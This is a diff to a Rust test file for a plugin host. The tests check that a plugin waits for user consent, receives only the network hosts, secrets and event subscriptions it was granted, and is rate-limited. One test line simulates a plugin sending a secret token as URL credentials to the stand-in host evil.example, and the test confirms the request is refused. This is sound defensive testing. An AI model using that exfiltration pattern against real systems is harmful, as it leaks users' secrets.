@@ -1,11 +1,20 @@
 //! What a user allowed: kept, asked again when more is asked, and what a plugin gets of it.
 
-use std::{fs, path::PathBuf};
+use std::{
+    fs,
+    path::PathBuf,
+    sync::{Arc, Mutex},
+};
 
-use bespoke_host::{Config, Consent, Grants, NoTerms, Sandbox, Start, Tier, Use, Used, ask};
+use bespoke_host::{
+    Config, Consent, Grants, Host, HttpAllowed, HttpClient, NoTerms, Row, Sandbox, Selection, Start, State, Tier, Use, Used, ask,
+};
 use bespoke_manifest::{Manifest, Permission};
+use bespoke_plugin_api::{BoxFuture, Code, Error, HttpReply, HttpRequest, PluginContext, Result};
 use expect_test::expect;
 use tempfile::TempDir;
+
+use crate::kit::Plug;
 
 fn manifest(version: &str, permissions: &str) -> Manifest {
     let text = format!(
@@ -307,4 +316,121 @@ fn uses_are_counted_within_bounds() {
     }
     assert!(used.list().len() <= 260);
     assert_eq!(used.list().iter().map(|u| u.used + u.refused).sum::<u64>(), 10_003);
+}
+
+const ASKS: &str = r#"[permissions]
+network_access = ["api.example.com"]
+plugin_communication = ["event:b."]
+secrets = ["token"]
+optional = ["secrets"]
+"#;
+
+/// Answers every request, if the host may be reached.
+struct Web;
+
+impl HttpClient for Web {
+    fn send(&self, allowed: HttpAllowed, request: HttpRequest) -> BoxFuture<'static, Result<HttpReply>> {
+        let open = allowed.hosts.iter().any(|host| request.url.contains(&host.pattern));
+        Box::pin(async move {
+            if open {
+                Ok(HttpReply::new(204, Vec::new(), Box::pin(futures_util::stream::empty())))
+            } else {
+                Err(Error::new(Code::PERMISSION_DENIED, "not that one"))
+            }
+        })
+    }
+}
+
+#[tokio::test]
+async fn a_plugin_waits_for_consent_and_gets_what_was_granted_and_no_more() {
+    let (_folder, path, grants) = file();
+    let context: Arc<Mutex<Option<PluginContext>>> = Arc::default();
+    let given = context.clone();
+    let plug = Plug::new("a").tier(Tier::Process).extra(ASKS).starts(move |cx, _| {
+        *given.lock().unwrap() = Some(cx);
+        async { Ok(()) }
+    });
+    let config = Config::parse("bespoke.toml", "[plugins.a.secrets]\ntoken = 'hush'\n").unwrap();
+    let host = Host::builder().config(config).http(Arc::new(Web)).grants(Grants::at(path)).plugins([plug]).build().unwrap();
+    host.start(Selection::All).await;
+    let row = || host.rows().remove(0);
+    let told_row = |row: Row| format!("{} {} → {}", row.state.name(), row.reason.unwrap_or_default(), row.fix.unwrap_or_default());
+    expect!["blocked waits for your consent to network_access, plugin_communication → bespoke plugin grant a"].assert_eq(&told_row(row()));
+    assert!(context.lock().unwrap().is_none(), "nothing of it ran");
+
+    grants.grant(&host.manifest("a").unwrap(), Tier::Process, &[]).unwrap();
+    host.start(Selection::All).await;
+    assert_eq!(row().state, State::Ready, "{:?}", row());
+    let cx = context.lock().unwrap().take().unwrap();
+    let mut said = String::new();
+    let mut say = |what: &str, result: Result<()>| {
+        said += &match result {
+            Ok(()) => format!("{what}: yes\n"),
+            Err(error) => format!("{what}: {}", crate::kit::told(&error)),
+        };
+    };
+    let get = |url: &'static str| cx.http(HttpRequest::new("GET", url));
+    say("a host", get("https://api.example.com/?key=hush").await.map(drop));
+    say("another", get("https://me:hush@evil.example/").await.map(drop));
+    say("a secret", cx.secret("token").await.map(drop));
+    say("another secret", cx.secret("key").await.map(drop));
+    say("events of b", cx.subscribe("b.said").map(drop));
+    say("events of all", cx.subscribe("").map(drop));
+    say("its own events", cx.subscribe("a.x").map(drop));
+    expect![[r#"
+        a host: yes
+        another: PERMISSION_DENIED not that one
+        a secret: PERMISSION_DENIED the user has not granted the secret `token`
+            help: bespoke plugin grant a
+        another secret: PERMISSION_DENIED plugin.toml does not ask for the secret `key`
+            help: add "key" to secrets under [permissions] in plugin.toml
+        events of b: yes
+        events of all: PERMISSION_DENIED plugin.toml does not ask for events of all
+            help: add "event:*" to plugin_communication under [permissions] in plugin.toml
+        its own events: yes
+    "#]]
+    .assert_eq(&said);
+    let used = host
+        .used("a")
+        .iter()
+        .map(|u| format!("{}: {} ({} used, {} refused)\n", u.permission, u.item, u.used, u.refused))
+        .collect::<String>();
+    expect![[r#"
+        network_access: api.example.com (1 used, 0 refused)
+        network_access: evil.example (0 used, 1 refused)
+        plugin_communication: event:* (0 used, 1 refused)
+        plugin_communication: event:b.said (1 used, 0 refused)
+        secrets: key (0 used, 1 refused)
+        secrets: token (0 used, 1 refused)
+    "#]]
+    .assert_eq(&used);
+    assert!(!used.contains("hush"));
+    host.shutdown().await;
+}
+
+#[tokio::test]
+async fn requests_are_held_to_their_number_in_a_second() {
+    let context: Arc<Mutex<Option<PluginContext>>> = Arc::default();
+    let given = context.clone();
+    let asks = "[permissions]\nnetwork_access = [\"a.example\"]\n[resources]\nnetwork_per_s = 1\n";
+    let plug = Plug::new("a").extra(asks).starts(move |cx, _| {
+        *given.lock().unwrap() = Some(cx);
+        async { Ok(()) }
+    });
+    let host = Host::builder().http(Arc::new(Web)).plugins([plug]).build().unwrap();
+    host.start(Selection::All).await;
+    let cx = context.lock().unwrap().take().unwrap();
+    // More than a second brings, however slow the machine is.
+    let mut refused = 0;
+    for _ in 0..1000 {
+        match cx.http(HttpRequest::new("GET", "https://a.example/")).await {
+            Ok(_) => {}
+            Err(error) => {
+                assert_eq!((error.kind(), error.is_retryable()), ("RESOURCE_EXHAUSTED", true));
+                refused += 1;
+            }
+        }
+    }
+    assert!((1..1000).contains(&refused), "{refused}");
+    host.shutdown().await;
 }
